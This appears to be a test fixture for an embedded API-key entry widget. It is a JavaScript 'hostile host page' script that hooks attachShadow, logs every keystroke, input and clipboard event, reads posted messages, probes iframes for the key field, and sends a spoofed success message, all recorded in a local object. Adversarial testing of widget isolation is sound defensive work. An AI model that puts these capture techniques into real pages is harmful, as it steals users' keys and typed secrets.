// A hostile script on the host page, loaded before the widget. It tries every way a page script
// has to read what the user types into the widget, and records what it got in window.__loot.
(function () {
  'use strict';
  var loot = window.__loot = {
    shadowRoots: 0, iframes: 0, probes: [], keyEvents: [], messages: [], values: [], spoofed: false
  };
  var seen = new Set();
  function note(list, text) {
    var k = list + ':' + text;
    if (seen.has(k)) return;
    seen.add(k);
    loot[list].push(text);
  }

  // 1. Capture every shadow root, closed ones included, by hooking attachShadow.
  var roots = [];
  var attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    var root = attach.call(this, init);
    roots.push(root);
    loot.shadowRoots++;
    return root;
  };

  // 2. Listen to every keyboard, input and clipboard event, capturing, on window and document.
  ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste', 'copy', 'cut', 'compositionend']
    .forEach(function (type) {
      [window, document].forEach(function (target) {
        target.addEventListener(type, function (e) {
          var value = e.target && 'value' in e.target ? e.target.value : '';
          note('keyEvents', type + '|' + (e.key || '') + '|' + (e.data || '') + '|' + value);
        }, true);
      });
    });

  // 3. Read every message posted to this window.
  window.addEventListener('message', function (e) {
    var text;
    try { text = JSON.stringify(e.data); } catch (err) { text = String(e.data); }
    note('messages', e.origin + ' ' + text);
  }, true);

  // 4. Keep reaching into the shadow roots and the frame.
  function probe() {
    roots.forEach(function (root) {
      root.querySelectorAll('input, textarea').forEach(function (i) { note('values', i.value); });
      note('probes', 'shadow html length>0:' + (root.innerHTML.length > 0));
      root.querySelectorAll('iframe').forEach(function (frame) {
        loot.iframes++;
        try {
          var d = frame.contentDocument;
          note('probes', 'contentDocument:' + (d ? d.documentElement.outerHTML : 'null'));
        } catch (e) { note('probes', 'contentDocument threw ' + e.name); }
        try {
          note('probes', 'contentWindow.document:' + frame.contentWindow.document.documentElement.outerHTML);
        } catch (e) { note('probes', 'contentWindow.document threw ' + e.name); }
        try {
          note('probes', 'input value:' + frame.contentWindow.document.getElementById('relay-key').value);
        } catch (e) { note('probes', 'input value threw ' + e.name); }
        try {
          note('probes', 'location:' + frame.contentWindow.location.href);
        } catch (e) { note('probes', 'location threw ' + e.name); }
        try {
          note('probes', 'frame src has token:' + /rrt-/.test(frame.src));
        } catch (e) { /* nothing */ }
        // Spoof the frame: a fake success to the page (must be ignored by the widget).
        if (!loot.spoofed) {
          loot.spoofed = true;
          window.postMessage({ protocol: 'relay-widget/1', type: 'success', provider: 'openai', fingerprint: 'sk-…FAKE' }, '*');
        }
      });
    });
    document.querySelectorAll('input, textarea').forEach(function (i) { note('values', i.value); });
    try { note('probes', 'selection:' + String(window.getSelection())); } catch (e) { /* nothing */ }
  }
  setInterval(probe, 20);
})();
